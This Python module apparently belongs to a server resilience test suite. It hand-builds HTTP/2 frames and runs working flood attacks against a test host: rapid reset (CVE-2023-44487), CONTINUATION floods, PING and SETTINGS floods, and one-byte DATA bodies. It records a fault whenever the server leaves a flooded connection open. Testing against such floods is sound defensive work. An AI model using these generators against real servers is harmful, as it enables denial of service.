"""HTTP/2 by hand (RFC 9113): resets, heads without an end, pings, settings, and bodies in crumbs."""
import asyncio
import itertools
import time

from client import GONE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
MOST = 10_000
# How long the server has to end a connection that was flooded.
LONGEST = 5


def frame(kind, flags, stream, payload=b""):
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(prefix, value):
    """A field's value, spelled out (RFC 7541, 5.2)."""
    length = len(value)
    if length < 127:
        return prefix + bytes([length]) + value
    rest, encoded = length - 127, b"\x7f"
    while rest > 127:
        encoded, rest = encoded + bytes([rest % 128 + 128]), rest // 128
    return prefix + encoded + bytes([rest]) + value


def head(client, method, path):
    """The fields of a request: by the static table, or spelled out and not remembered."""
    start = {b"GET": b"\x82", b"POST": b"\x83"}[method] + b"\x86"
    return (start + text(b"\x04", path) + text(b"\x01", b"errand.local") + text(b"\x0f\x08", b"Bearer " + client.token.encode())
            + text(b"\x0f\x10", b"application/json"))


def resets(client):
    """Requests that are taken back at once (CVE-2023-44487)."""
    fields = head(client, b"GET", b"/v1/tasks?limit=200")
    for number in range(MOST):
        stream = 2 * number + 1
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, fields) + frame(RST_STREAM, 0, stream, bytes([0, 0, 0, 8]))


def continuations(client):
    """A head that goes on and on."""
    yield frame(HEADERS, END_STREAM, 1, head(client, b"GET", b"/v1/tasks"))
    more = text(b"\x00\x05x-abc", b"y" * 4000)
    for _ in range(MOST):
        yield frame(CONTINUATION, 0, 1, more)


def empty_continuations(client):
    """The same without anything in it."""
    yield frame(HEADERS, END_STREAM, 1, head(client, b"GET", b"/v1/tasks"))
    for _ in range(MOST):
        yield frame(CONTINUATION, 0, 1)


def pings(_client):
    """Each of which wants an answer."""
    for number in range(MOST * 5):
        yield frame(PING, 0, 0, number.to_bytes(8, "big"))


def settings(_client):
    """Each of which wants an answer, too."""
    for number in range(MOST * 5):
        yield frame(SETTINGS, 0, 0, b"\x00\x04" + (65_535 + number % 9).to_bytes(4, "big"))


def crumbs(client):
    """A body of frames of one byte, and of none."""
    yield frame(HEADERS, END_HEADERS, 1, head(client, b"POST", b"/v1/tasks"))
    for number in range(MOST * 2):
        yield frame(DATA, 0, 1, b" " * (number % 2))


KINDS = (resets, continuations, empty_continuations, pings, settings, crumbs)


async def flood(hostile, _nothing):
    """Two connections of each kind at a time."""
    async def step(number):
        kind = KINDS[number % len(KINDS)]
        outcome = await one(hostile.clients[number % len(hostile.clients)], kind)
        hostile.seen[f"{kind.__name__.replace('_', ' ')} {outcome}"] += 1
        await asyncio.sleep(0.5)
    await hostile.crowd(2 * len(KINDS), step)
    for kind in (resets, continuations, empty_continuations):
        name = kind.__name__.replace("_", " ")
        if left := hostile.seen[f"{name} left open"]:
            hostile.faults.append(f"{left} floods of {name} did not end their connection")


async def one(client, kind):
    """One flood; returns how it ended. The answers of pings are not read until all are sent, as it suits who floods."""
    reader, writer = await client.connect()
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        frames, began = kind(client), time.monotonic()
        while part := b"".join(itertools.islice(frames, 100)):
            writer.write(part)
            async with asyncio.timeout(LONGEST):
                await writer.drain()
            if reader.at_eof() or time.monotonic() - began > 2 * LONGEST:
                break
        return await ending(reader)
    except TimeoutError:
        return "not read on"
    except GONE:
        return "closed"
    finally:
        writer.transport.abort()


async def ending(reader):
    """Reads what was said, until the server ends the connection or has had the time to."""
    try:
        async with asyncio.timeout(LONGEST):
            while await reader.read(1 << 16):
                pass
    except TimeoutError:
        return "left open"
    except OSError:
        pass
    return "closed"
